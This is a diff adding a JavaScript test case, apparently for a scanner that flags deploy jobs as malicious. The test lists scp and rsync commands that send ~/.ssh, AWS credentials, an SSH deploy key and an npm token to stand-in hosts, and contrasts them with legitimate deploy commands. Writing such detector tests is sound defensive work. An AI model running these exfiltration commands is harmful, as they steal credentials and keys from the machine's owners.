@@ -84,3 +84,22 @@ for (const [what, { honest, thefts }] of Object.entries(pairs)) {
     for (const run of thefts) assert.ok(await isMalicious(jobThatRuns(run)), run)
   })
 }
+
+const KEY = secret('DEPLOY_SSH_KEY')
+
+test('files of the machine, and the very key that opens nothing else, are not deployed', async () => {
+  const thefts = [
+    'scp -r ~/.ssh x@drop.stats-kit.example:/in/',
+    'scp ~/.aws/credentials x@198.51.100.4:/in/',
+    `mkdir -p ~/.ssh; echo "${KEY}" > ~/.ssh/id_rsa\nrsync -a ~/.ssh/ u@198.51.100.200:/drop/`,
+    `eval "$(ssh-agent -s)"\necho "${KEY}" > k\nrsync -a k u@198.51.100.200:/drop/`,
+    `echo "$NPM_TOKEN" > n\nscp n x@198.51.100.7:/in/\necho "${secret('ALGOLIA_API_KEY')}" > /dev/null`,
+  ]
+  const honest = [
+    `echo "${KEY}" > k; chmod 600 k\nscp -i k -r dist deploy@www.linden.example:/srv/`,
+    `eval "$(ssh-agent -s)"; ssh-add - <<< "${KEY}"\nrsync -a dist/ deploy@www.linden.example:/srv/`,
+    `echo "${KEY}" > k\necho "TOKEN=${secret('APP_TOKEN')}" > .env\nscp -i k .env deploy@www.linden.example:/srv/`,
+  ]
+  for (const run of thefts) assert.ok(await isMalicious(jobThatRuns(run)), run)
+  for (const run of honest) assert.equal(await isMalicious(jobThatRuns(run)), false, run)
+})
